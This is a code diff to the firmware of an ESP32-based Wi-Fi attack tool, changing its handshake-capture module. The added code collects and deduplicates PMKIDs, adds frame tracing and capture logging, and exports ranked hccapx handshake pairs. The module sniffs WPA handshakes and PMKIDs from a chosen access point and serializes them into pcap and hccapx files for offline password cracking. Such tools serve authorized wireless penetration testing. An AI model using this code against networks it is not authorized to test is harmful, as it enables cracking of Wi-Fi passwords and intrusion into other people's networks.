@@ -10,7 +10,7 @@
 #include "attack_handshake.h"
 
 #include <string.h>
-#define LOG_LOCAL_LEVEL ESP_LOG_VERBOSE
+#define LOG_LOCAL_LEVEL CONFIG_MAIN_LOG_LEVEL
 #include "esp_log.h"
 #include "esp_err.h"
 #include "esp_event.h"
@@ -22,11 +22,22 @@
 #include "frame_analyzer.h"
 #include "pcap_serializer.h"
 #include "hccapx_serializer.h"
+#include "capture_log.h"
+#include "frame_trace.h"
+#include "binary_log.h"
 
 static const char *TAG = "main:attack_handshake";
 static attack_handshake_methods_t method = -1;
 static const wifi_ap_record_t *ap_record = NULL;
 
+/**
+ * @brief PMKIDs that were found in handshake frames during the attack
+ */
+//@{
+static pmkid_record_t pmkids[CONFIG_PMKID_DEDUP_TABLE_SIZE];
+static unsigned pmkids_count = 0;
+//@}
+
 /**
  * @brief Callback for DATA_FRAME_EVENT_EAPOLKEY_FRAME event.
  * 
@@ -39,24 +50,82 @@ static const wifi_ap_record_t *ap_record = NULL;
  * @param event_data expects wifi_promiscuous_pkt_t
  */
 static void eapolkey_frame_handler(void *args, esp_event_base_t event_base, int32_t event_id, void *event_data) {
-    ESP_LOGI(TAG, "Got EAPoL-Key frame");
-    ESP_LOGD(TAG, "Processing handshake frame...");
+    BINARY_LOGI(TAG, "Got EAPoL-Key frame");
+    BINARY_LOGD(TAG, "Processing handshake frame...");
     wifi_promiscuous_pkt_t *frame = (wifi_promiscuous_pkt_t *) event_data;
+    FRAME_TRACE_ASYNC_END(FRAME_TRACE_STAGE_QUEUE_DWELL, frame->rx_ctrl.timestamp);
+    FRAME_TRACE_BEGIN(status_start);
     attack_append_status_content(frame->payload, frame->rx_ctrl.sig_len);
-    pcap_serializer_append_frame(frame->payload, frame->rx_ctrl.sig_len, frame->rx_ctrl.timestamp);
-    hccapx_serializer_add_frame((data_frame_t *) frame->payload);
+    FRAME_TRACE_END(FRAME_TRACE_STAGE_STATUS_APPEND, status_start);
+    pcap_frame_info_t frame_info = { .channel = frame->rx_ctrl.channel, .rssi = frame->rx_ctrl.rssi, .fcs = true };
+    FRAME_TRACE_BEGIN(pcap_start);
+    pcap_serializer_append_frame(frame->payload, frame->rx_ctrl.sig_len, frame->rx_ctrl.timestamp, &frame_info);
+    FRAME_TRACE_END(FRAME_TRACE_STAGE_PCAP_APPEND, pcap_start);
+    FRAME_TRACE_BEGIN(handshake_start);
+    hccapx_serializer_add_frame((data_frame_t *) frame->payload, frame->rx_ctrl.sig_len, frame->rx_ctrl.timestamp);
+    FRAME_TRACE_END(FRAME_TRACE_STAGE_HANDSHAKE_UPDATE, handshake_start);
+    hccapx_handshake_state_t state = hccapx_serializer_get_state();
+    for(hccapx_handshake_state_t reached = HCCAPX_HANDSHAKE_M1; reached <= state; reached++){
+        attack_milestone(ATTACK_MILESTONE_HANDSHAKE_M1 + (reached - HCCAPX_HANDSHAKE_M1));
+    }
+    if(state >= HCCAPX_HANDSHAKE_CHALLENGE){
+        attack_milestone(ATTACK_MILESTONE_COMPLETE);
+    }
+    capture_log_frame_t log_frame_info = { .ts_usec = frame->rx_ctrl.timestamp, .channel = frame->rx_ctrl.channel, .rssi = frame->rx_ctrl.rssi };
+    capture_log_append_frame(&log_frame_info, frame->payload, frame->rx_ctrl.sig_len);
+}
+
+/**
+ * @brief Callback for DATA_FRAME_EVENT_PMKID event.
+ * 
+ * M1 handshake messages often carry PMKID too. These are collected within the same session, so
+ * there is no need to run PMKID attack against the AP separately.
+ * 
+ * @param args not used
+ * @param event_base expects FRAME_ANALYZER_EVENTS
+ * @param event_id expects DATA_FRAME_EVENT_PMKID
+ * @param event_data expects pmkid_records_t
+ */
+static void pmkid_handler(void *args, esp_event_base_t event_base, int32_t event_id, void *event_data) {
+    pmkid_records_t *pmkid_records = (pmkid_records_t *) event_data;
+    for(unsigned i = 0; i < pmkid_records->count; i++){
+        bool duplicate = false;
+        for(unsigned j = 0; j < pmkids_count; j++){
+            if(memcmp(&pmkids[j], &pmkid_records->records[i], sizeof(pmkid_record_t)) == 0){
+                duplicate = true;
+                break;
+            }
+        }
+        if(duplicate || (pmkids_count >= CONFIG_PMKID_DEDUP_TABLE_SIZE)){
+            continue;
+        }
+        ESP_LOGI(TAG, "Got PMKID from handshake frame");
+        attack_milestone(ATTACK_MILESTONE_FIRST_PMKID);
+        memcpy(&pmkids[pmkids_count], &pmkid_records->records[i], sizeof(pmkid_record_t));
+        pmkids_count++;
+        capture_log_append(CAPTURE_LOG_RECORD_PMKID, &pmkid_records->records[i], sizeof(pmkid_record_t));
+    }
+}
+
+const pmkid_record_t *attack_handshake_get_pmkids(unsigned *count){
+    *count = pmkids_count;
+    return pmkids;
 }
 
 void attack_handshake_start(attack_config_t *attack_config){
     ESP_LOGI(TAG, "Starting handshake attack...");
     method = attack_config->method;
     ap_record = attack_config->ap_record;
+    pmkids_count = 0;
     pcap_serializer_init();
     hccapx_serializer_init(ap_record->ssid, strlen((char *)ap_record->ssid));
     wifictl_sniffer_filter_frame_types(true, false, false);
     wifictl_sniffer_start(ap_record->primary);
-    frame_analyzer_capture_start(SEARCH_HANDSHAKE, ap_record->bssid);
+    attack_milestone(ATTACK_MILESTONE_SNIFFER_START);
+    const uint8_t *bssid = ap_record->bssid;
+    frame_analyzer_capture_start(FRAME_ANALYZER_OBJECTIVE_HANDSHAKE | FRAME_ANALYZER_OBJECTIVE_PMKID | FRAME_ANALYZER_OBJECTIVE_STATS, &bssid, 1);
     ESP_ERROR_CHECK(esp_event_handler_register(FRAME_ANALYZER_EVENTS, DATA_FRAME_EVENT_EAPOLKEY_FRAME, &eapolkey_frame_handler, NULL));
+    ESP_ERROR_CHECK(esp_event_handler_register(FRAME_ANALYZER_EVENTS, DATA_FRAME_EVENT_PMKID, &pmkid_handler, NULL));
     switch(attack_config->method){
         case ATTACK_HANDSHAKE_METHOD_BROADCAST:
             ESP_LOGD(TAG, "ATTACK_HANDSHAKE_METHOD_BROADCAST");
@@ -93,6 +162,12 @@ void attack_handshake_stop(){
     wifictl_sniffer_stop();
     frame_analyzer_capture_stop();
     ESP_ERROR_CHECK(esp_event_handler_unregister(ESP_EVENT_ANY_BASE, ESP_EVENT_ANY_ID, &eapolkey_frame_handler));
+    // ranked message pairs are final only once capture is stopped
+    hccapx_t hccapx;
+    for(unsigned rank = 0; hccapx_serializer_get_pair(rank, &hccapx); rank++){
+        capture_log_append(CAPTURE_LOG_RECORD_HCCAPX, &hccapx, sizeof(hccapx_t));
+    }
+    ESP_ERROR_CHECK(esp_event_handler_unregister(ESP_EVENT_ANY_BASE, ESP_EVENT_ANY_ID, &pmkid_handler));
     ap_record = NULL;
     method = -1;
     ESP_LOGD(TAG, "Handshake attack stopped");